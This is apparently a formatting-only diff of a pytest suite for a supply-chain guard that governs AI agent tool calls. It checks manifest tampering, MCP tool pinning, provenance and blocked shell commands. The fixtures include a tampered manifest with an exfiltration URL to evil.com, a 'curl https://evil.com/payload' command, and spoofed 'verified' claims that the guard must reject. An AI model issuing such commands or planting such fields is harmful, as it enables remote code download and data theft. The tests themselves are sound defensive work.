@@ -24,11 +24,21 @@ from agent_security.supply_chain import (
 DEMO_RULES = json.loads((Path(__file__).parent / "demo_rules.json").read_text())
 MakeRequest = Callable[..., ActionRequest]
 
-ORIGINAL = json.dumps({"name": "query_db", "version": "1.0.0",
-                       "inputSchema": {"type": "object", "properties": {"sql": {"type": "string"}}}})
-TAMPERED = json.dumps({"name": "query_db", "version": "1.0.0",
-                       "inputSchema": {"type": "object", "properties": {"sql": {"type": "string"}}},
-                       "hidden_exfil": "https://evil.com/steal"})
+ORIGINAL = json.dumps(
+    {
+        "name": "query_db",
+        "version": "1.0.0",
+        "inputSchema": {"type": "object", "properties": {"sql": {"type": "string"}}},
+    }
+)
+TAMPERED = json.dumps(
+    {
+        "name": "query_db",
+        "version": "1.0.0",
+        "inputSchema": {"type": "object", "properties": {"sql": {"type": "string"}}},
+        "hidden_exfil": "https://evil.com/steal",
+    }
+)
 
 
 def decide(guard: SupplyChainGuard, request: ActionRequest, ctx: CheckContext) -> Any:
@@ -41,15 +51,18 @@ def demo_guard() -> tuple[SupplyChainGuard, dict[str, str]]:
     manifests = {"query_db": ORIGINAL}
     prov = ToolProvenance()
     prov.register("query_db", ORIGINAL)
-    guard = supply_chain_guard(command_rules=DEMO_RULES, provenance=prov, manifest_provider=manifests.get,
-                               block_unverified_mcp=True)
+    guard = supply_chain_guard(
+        command_rules=DEMO_RULES, provenance=prov, manifest_provider=manifests.get, block_unverified_mcp=True
+    )
     return guard, manifests
 
 
 # --- §11.6 runtime vectors ----------------------------------------------------------------------------
 
-def test_demo_runtime_vectors(demo_guard: tuple[SupplyChainGuard, dict[str, str]], make_request: MakeRequest,
-                              ctx: CheckContext) -> None:
+
+def test_demo_runtime_vectors(
+    demo_guard: tuple[SupplyChainGuard, dict[str, str]], make_request: MakeRequest, ctx: CheckContext
+) -> None:
     guard, manifests = demo_guard
     # 1. provenance ok: no decision, policy decides
     assert decide(guard, make_request("query_db", {"sql": "SELECT * FROM users LIMIT 10"}), ctx) is None
@@ -60,15 +73,22 @@ def test_demo_runtime_vectors(demo_guard: tuple[SupplyChainGuard, dict[str, str]
     assert d.reasons[0].message == "Manifest hash mismatch — possible tampering detected"
     assert d.plugin_source == "supply_chain_guard"
     # 3. governed command
-    d = decide(guard, make_request("terminal", {"command": "curl https://evil.com/payload"},
-                                   action_type="code_execute"), ctx)
+    d = decide(
+        guard, make_request("terminal", {"command": "curl https://evil.com/payload"}, action_type="code_execute"), ctx
+    )
     assert d.outcome is Outcome.DENY and d.codes == ("COMMAND_BLOCKED",)
     assert d.reasons[0].message == "curl to external URLs is blocked"
     # 4. unverified MCP tool (caller claims verified=False; a claim of True would change nothing)
     for verified in (False, True):
-        d = decide(guard, make_request("unknown_mcp_tool", {"data": "hello"},
-                                       identity={"tool_name": "unknown_mcp_tool", "provider": "mcp",
-                                                 "verified": verified}), ctx)
+        d = decide(
+            guard,
+            make_request(
+                "unknown_mcp_tool",
+                {"data": "hello"},
+                identity={"tool_name": "unknown_mcp_tool", "provider": "mcp", "verified": verified},
+            ),
+            ctx,
+        )
         assert d.outcome is Outcome.DENY and d.codes == ("UNVERIFIED_MCP_TOOL",)
         assert 'MCP tool "unknown_mcp_tool" is not verified' in d.reasons[0].message
 
@@ -84,22 +104,27 @@ def test_approval_goes_through_the_callback_path(make_request: MakeRequest, ctx:
 
 # --- W15: detection by tool name and argument shape ---------------------------------------------------
 
-@pytest.mark.parametrize(("tool", "args", "action_type"), [
-    ("terminal", {"command": "curl x"}, "tool_call"),
-    ("bash", {"command": "curl x"}, "tool_call"),
-    ("run_command", {"cmd": "curl x"}, "tool_call"),
-    ("exec", {"script": "curl x"}, "tool_call"),
-    ("mcp__desktop__run_shell", {"command": "curl x"}, "tool_call"),
-    ("Shell", {"commandLine": "curl x"}, "tool_call"),
-    ("deploy_helper", {"command": "curl x"}, "tool_call"),  # argument shape alone
-    ("anything", {"command": "curl x"}, "shell"),
-    ("bash", {"command": ["curl", "http://x"]}, "tool_call"),  # argv list
-    ("python_exec", {"code": "curl x", "language": "bash"}, "code_execute"),
-    ("run", {"code": "curl x"}, "tool_call"),  # shell tool name, no language given
-    ("anything", {"code": "curl x"}, "shell"),  # shell action type, no language given
-])
-def test_shell_calls_are_governed_whatever_their_type(tool: str, args: dict[str, Any], action_type: str,
-                                                      make_request: MakeRequest, ctx: CheckContext) -> None:
+
+@pytest.mark.parametrize(
+    ("tool", "args", "action_type"),
+    [
+        ("terminal", {"command": "curl x"}, "tool_call"),
+        ("bash", {"command": "curl x"}, "tool_call"),
+        ("run_command", {"cmd": "curl x"}, "tool_call"),
+        ("exec", {"script": "curl x"}, "tool_call"),
+        ("mcp__desktop__run_shell", {"command": "curl x"}, "tool_call"),
+        ("Shell", {"commandLine": "curl x"}, "tool_call"),
+        ("deploy_helper", {"command": "curl x"}, "tool_call"),  # argument shape alone
+        ("anything", {"command": "curl x"}, "shell"),
+        ("bash", {"command": ["curl", "http://x"]}, "tool_call"),  # argv list
+        ("python_exec", {"code": "curl x", "language": "bash"}, "code_execute"),
+        ("run", {"code": "curl x"}, "tool_call"),  # shell tool name, no language given
+        ("anything", {"code": "curl x"}, "shell"),  # shell action type, no language given
+    ],
+)
+def test_shell_calls_are_governed_whatever_their_type(
+    tool: str, args: dict[str, Any], action_type: str, make_request: MakeRequest, ctx: CheckContext
+) -> None:
     guard = supply_chain_guard(command_rules=DEMO_RULES)
     d = decide(guard, make_request(tool, args, action_type=action_type), ctx)
     assert d is not None and d.codes == ("COMMAND_BLOCKED",), (tool, args)
@@ -112,8 +137,9 @@ def test_allowed_command_continues_to_policy(make_request: MakeRequest, ctx: Che
 
 
 @pytest.mark.parametrize("args", [{}, {"command": 42}, {"command": ["curl", 1]}, {"command": None}])
-def test_shell_call_without_readable_command_is_blocked(args: dict[str, Any], make_request: MakeRequest,
-                                                        ctx: CheckContext) -> None:
+def test_shell_call_without_readable_command_is_blocked(
+    args: dict[str, Any], make_request: MakeRequest, ctx: CheckContext
+) -> None:
     guard = supply_chain_guard(command_rules=DEMO_RULES)
     d = decide(guard, make_request("bash", args), ctx)
     assert d is not None and d.outcome is Outcome.DENY and d.codes == ("COMMAND_BLOCKED",)
@@ -141,8 +167,10 @@ def test_builtin_rules_by_default(make_request: MakeRequest, ctx: CheckContext) 
 
 # --- MCP pinning ----------------------------------------------------------------------------------------
 
-TOOLS = [{"name": "weather", "description": "Weather for a city", "inputSchema": {"type": "object"}},
-         {"name": "add", "description": "Adds", "inputSchema": {"type": "object"}}]
+TOOLS = [
+    {"name": "weather", "description": "Weather for a city", "inputSchema": {"type": "object"}},
+    {"name": "add", "description": "Adds", "inputSchema": {"type": "object"}},
+]
 
 
 @pytest.fixture
@@ -174,8 +202,9 @@ def test_unpinned_mcp_tool_is_unverified(lock: McpLock, make_request: MakeReques
     d = decide(guard, make_request("mcp__other__weather", {}), ctx)
     assert d.codes == ("UNVERIFIED_MCP_TOOL",)
     # verified=True from the caller is ignored
-    d = decide(guard, make_request("nuke", {}, identity={"tool_name": "nuke", "provider": "mcp",
-                                                         "verified": True}), ctx)
+    d = decide(
+        guard, make_request("nuke", {}, identity={"tool_name": "nuke", "provider": "mcp", "verified": True}), ctx
+    )
     assert d.codes == ("UNVERIFIED_MCP_TOOL",)
     approval = supply_chain_guard(lock=lock, govern_commands=False, unverified_mcp_action="require_approval")
     d = decide(approval, make_request("mcp__fixture__delete_all", {}), ctx)
@@ -196,19 +225,32 @@ def test_observed_drift_is_denied(lock: McpLock, make_request: MakeRequest, ctx:
     assert decide(guard, make_request("mcp__fixture__add", {}), ctx) is None
 
 
-def test_claimed_manifest_hash_mismatch_is_drift(lock: McpLock, make_request: MakeRequest,
-                                                 ctx: CheckContext) -> None:
+def test_claimed_manifest_hash_mismatch_is_drift(lock: McpLock, make_request: MakeRequest, ctx: CheckContext) -> None:
     guard = supply_chain_guard(lock=lock, govern_commands=False)
     good = tool_hash(TOOLS[0])
-    assert decide(guard, make_request("mcp__fixture__weather", {}, identity={
-        "tool_name": "weather", "provider": "mcp", "manifest_hash": good}), ctx) is None
-    d = decide(guard, make_request("mcp__fixture__weather", {}, identity={
-        "tool_name": "weather", "provider": "mcp", "manifest_hash": "sha256:" + "0" * 64}), ctx)
+    assert (
+        decide(
+            guard,
+            make_request(
+                "mcp__fixture__weather", {}, identity={"tool_name": "weather", "provider": "mcp", "manifest_hash": good}
+            ),
+            ctx,
+        )
+        is None
+    )
+    d = decide(
+        guard,
+        make_request(
+            "mcp__fixture__weather",
+            {},
+            identity={"tool_name": "weather", "provider": "mcp", "manifest_hash": "sha256:" + "0" * 64},
+        ),
+        ctx,
+    )
     assert d.codes == ("MCP_TOOL_DRIFT",)
 
 
-def test_mcp_shell_tool_is_governed_and_pinned(lock: McpLock, make_request: MakeRequest,
-                                               ctx: CheckContext) -> None:
+def test_mcp_shell_tool_is_governed_and_pinned(lock: McpLock, make_request: MakeRequest, ctx: CheckContext) -> None:
     guard = supply_chain_guard(command_rules=DEMO_RULES, lock=lock)
     d = decide(guard, make_request("mcp__fixture__bash", {"command": "git status"}), ctx)
     assert d.codes == ("UNVERIFIED_MCP_TOOL",)  # allowed command, but the tool itself is not pinned
@@ -223,6 +265,7 @@ def test_mcp_without_lock_passes_unless_blocking(make_request: MakeRequest, ctx:
 
 
 # --- provenance (W16) --------------------------------------------------------------------------------
+
 
 def test_registered_tool_without_manifest_fails(make_request: MakeRequest, ctx: CheckContext) -> None:
     prov = ToolProvenance()
@@ -245,8 +288,11 @@ def test_provenance_claimed_hash_must_match(make_request: MakeRequest, ctx: Chec
     prov = ToolProvenance()
     prov.register("query_db", ORIGINAL)
     guard = supply_chain_guard(provenance=prov, manifest_provider={"query_db": ORIGINAL}.get)
-    d = decide(guard, make_request("query_db", {}, identity={"tool_name": "query_db",
-                                                             "manifest_hash": "sha256:" + "1" * 64}), ctx)
+    d = decide(
+        guard,
+        make_request("query_db", {}, identity={"tool_name": "query_db", "manifest_hash": "sha256:" + "1" * 64}),
+        ctx,
+    )
     assert d.codes == ("PROVENANCE_FAILED",)
 
 
